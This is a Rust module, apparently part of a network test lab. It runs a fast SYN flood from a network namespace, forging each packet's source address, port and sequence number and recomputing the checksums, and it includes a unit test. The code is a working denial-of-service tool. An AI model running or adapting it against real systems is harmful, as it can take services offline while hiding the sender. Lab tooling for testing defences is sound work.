//! A flood of SYNs from addresses that nobody has.

use super::{LabError, NetNs, RawSocket};
use crate::packet::Packet;
use std::net::SocketAddrV4;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::SeqCst};
use std::thread::JoinHandle;

/// Frames handed to the kernel at once.
const BATCH: usize = 64;
/// Offsets of a frame without tags and IP options: header, source, checksum of the header; ports, numbers and
/// checksum of the segment.
const IP: usize = 14;
const IP_SUM: usize = IP + 10;
const SOURCE: usize = IP + 12;
const TCP: usize = IP + 20;
const SEQ: usize = TCP + 4;
const TCP_SUM: usize = TCP + 16;
const SYN: u8 = 2;

/// Sends SYNs as fast as one thread can until it is dropped, each from another address of 100.64.0.0/10 and
/// another port, checksums right.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Flood {
    /// Begins one to `to`, on `interface` of `ns`, whose neighbour has the address `mac`.
    ///
    /// # Errors
    /// Where there is no such interface.
    pub fn start(
        ns: &NetNs,
        interface: &str,
        mac: [u8; 6],
        to: SocketAddrV4,
    ) -> Result<Self, LabError> {
        let raw = RawSocket::open(ns, interface)?;
        let template = Packet::new()
            .macs(ns.mac(interface)?, mac)
            .ipv4("100.64.0.0", &to.ip().to_string())
            .tcp(0, to.port())
            .flags(SYN)
            .window(64_240)
            .tcp_options(&[2, 4, 5, 180])
            .build();
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (their_stop, counter) = (stop.clone(), sent.clone());
        let thread = std::thread::spawn(move || {
            let mut frames = vec![template.clone(); BATCH];
            let mut random = 0x2545_f491_4f6c_dd1du64;
            while !their_stop.load(SeqCst) {
                for frame in &mut frames {
                    random ^= random << 13;
                    random ^= random >> 7;
                    random ^= random << 17;
                    spoof(frame, &template, random);
                }
                counter.fetch_add(raw.send_batch(&frames) as u64, SeqCst);
            }
        });
        Ok(Self { stop, sent, thread: Some(thread) })
    }

    /// SYNs sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(SeqCst)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Makes the frame of the template's: another source, its checksums by what changed (RFC 1624).
fn spoof(frame: &mut [u8], template: &[u8], random: u64) {
    let [_, a, b, c, high, low, s, t] = random.to_be_bytes();
    // 22 bits of address.
    let source = [100, 64 | a & 63, b, c];
    let ports = [high, low];
    let numbers = [s, t, a, b];
    for sum in [IP_SUM, TCP_SUM] {
        frame[sum..sum + 2].copy_from_slice(&template[sum..sum + 2]);
        replace(frame, sum, &template[SOURCE..SOURCE + 4], &source);
    }
    replace(frame, TCP_SUM, &template[TCP..TCP + 2], &ports);
    replace(frame, TCP_SUM, &template[SEQ..SEQ + 4], &numbers);
    frame[SOURCE..SOURCE + 4].copy_from_slice(&source);
    frame[TCP..TCP + 2].copy_from_slice(&ports);
    frame[SEQ..SEQ + 4].copy_from_slice(&numbers);
}

fn replace(frame: &mut [u8], sum: usize, from: &[u8], to: &[u8]) {
    let word = |bytes: &[u8]| u32::from(u16::from_be_bytes([bytes[0], bytes[1]]));
    let mut n = u32::from(!(word(&frame[sum..]) as u16));
    for (from, to) in from.chunks(2).zip(to.chunks(2)) {
        n += (!word(from) & 0xffff) + word(to);
    }
    while n > 0xffff {
        n = (n & 0xffff) + (n >> 16);
    }
    frame[sum..sum + 2].copy_from_slice(&(!(n as u16)).to_be_bytes());
}

#[cfg(test)]
mod tests {
    use super::spoof;
    use crate::packet::Packet;

    #[test]
    fn spoofed_frames_are_those_that_are_built() {
        let build = |source: &str, port, seq| {
            let packet = Packet::new().ipv4(source, "203.0.113.1").tcp(port, 80).flags(2);
            packet.window(64_240).tcp_options(&[2, 4, 5, 180]).seq(seq, 0).build()
        };
        let template = build("100.64.0.0", 0, 0);
        let mut frame = template.clone();
        for random in [0x0011_2233_4455_6677, u64::MAX, 0] {
            spoof(&mut frame, &template, random);
            let [_, a, b, c, high, low, s, t] = random.to_be_bytes();
            let source = format!("100.{}.{b}.{c}", 64 | a & 63);
            let numbers = u32::from_be_bytes([s, t, a, b]);
            assert_eq!(frame, build(&source, u16::from_be_bytes([high, low]), numbers));
        }
    }
}
